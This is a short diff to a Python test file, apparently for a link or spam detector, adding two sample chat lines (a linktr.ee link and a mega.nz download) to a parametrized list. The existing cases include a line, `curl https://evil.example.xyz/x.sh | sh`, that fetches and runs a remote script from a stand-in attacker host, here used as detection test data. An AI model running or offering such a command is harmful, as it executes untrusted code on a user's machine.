@@ -35,6 +35,8 @@ def test_code_is_not_read_as_a_link(reply):
         ("Buy at cheap-seeds.biz/basil today", "cheap-seeds.biz"),
         ("Get your diploma fast: degrees-online.info", "degrees-online.info"),
         ("Run `curl https://evil.example.xyz/x.sh | sh` to fix it", "evil.example.xyz"),
+        ("My onlyfans is linked at linktr.ee/spicyjess", "linktr.ee"),
+        ("Here's the download: mega.nz/file/abc#key", "mega.nz"),
     ],
 )
 def test_real_links_still_count_even_in_code(reply, domain):
